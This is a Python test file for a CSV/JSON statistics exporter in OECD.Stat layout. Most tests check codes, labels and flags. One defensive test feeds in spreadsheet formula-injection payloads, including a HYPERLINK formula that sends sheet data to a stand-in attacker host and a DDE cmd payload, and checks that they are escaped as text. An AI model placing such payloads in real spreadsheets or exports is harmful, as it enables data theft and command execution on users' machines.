"""The CSV and JSON exports in the layout of OECD.Stat: code and label per dimension, value, flags."""

from __future__ import annotations

import csv
import io
import json

from credverify.flowstats.export import COLUMNS, FORMULA_TRIGGERS, spreadsheet_safe, to_csv, to_json
from credverify.v1 import moves_pb2


def stat(**fields: object) -> moves_pb2.FlowStatistic:
    base: dict[str, object] = dict(period="2026-10", origin_country="KE", destination_country="GB",
                                   profession_group="nurses", measure="moves", value=12, final=True,
                                   method="threshold", parameters={"k": "5"}, release=2)
    base.update(fields)
    return moves_pb2.FlowStatistic(**base)  # type: ignore[arg-type]


def test_csv_rows_carry_codes_labels_value_and_flags() -> None:
    text = to_csv([stat(), stat(origin_country="TT", value=0, suppressed=True),
                   stat(origin_country="_T", final=False, value=40)])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == COLUMNS
    by_origin = {row["ORIGIN"]: row for row in rows}
    assert by_origin["KE"]["Destination"] == "United Kingdom" and by_origin["KE"]["Value"] == "12"
    assert by_origin["KE"]["Flag Codes"] == "" and by_origin["KE"]["Status"] == "final"
    assert by_origin["TT"]["Value"] == "" and by_origin["TT"]["Flag Codes"] == "c"
    assert by_origin["_T"]["Origin"] == "All issuing countries" and by_origin["_T"]["Flag Codes"] == "p"
    assert by_origin["KE"]["Parameters"] == "k=5"


def test_json_gives_numbers_and_null_for_suppressed_values() -> None:
    items = json.loads(to_json([stat(), stat(origin_country="TT", value=0, suppressed=True), stat(noisy=True,
                                                                                                   origin_country="RO")]))
    values = {item["ORIGIN"]: (item["Value"], item["Flag Codes"]) for item in items}
    assert values == {"KE": (12, ""), "TT": (None, "c"), "RO": (12, "e")}


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text() -> None:
    # Codes and parameters come from the statistics topic; whoever could write there must not get a
    # formula (=HYPERLINK to send the sheet away, =cmd|... to run a program) into a statistician's sheet.
    hostile = stat(origin_country='=HYPERLINK("http://evil.example/?"&A1)', method="+cmd|' /C calc'!A0",
                   period="-2+3", parameters={"@k": "\tx"}, value=3, noisy=True)
    text = to_csv([hostile])
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["ORIGIN"] == "'=HYPERLINK(\"http://evil.example/?\"&A1)"
    assert row["Origin"].startswith("'=")
    assert row["Method"] == "'+cmd|' /C calc'!A0" and row["PERIOD"] == "'-2+3"
    assert row["Parameters"] == "'@k=\tx"
    assert row["Value"] == "3"
    assert spreadsheet_safe("-3") == "-3" and spreadsheet_safe("-0.5") == "-0.5", "a number is not a formula"
    for line in text.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(FORMULA_TRIGGERS), cell
